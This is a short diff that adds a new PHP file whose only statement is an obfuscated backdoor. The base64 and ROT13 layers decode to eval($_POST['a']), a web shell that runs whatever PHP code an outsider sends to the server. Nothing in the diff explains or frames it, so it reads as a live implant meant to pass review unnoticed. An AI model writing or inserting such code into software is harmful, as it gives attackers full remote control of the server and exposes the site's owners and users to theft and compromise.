@@ -1,0 +1,2 @@
+<?php
+eval(str_rot13(base64_decode('cmlueSgkX0NCRkdbJ24nXSk7')));
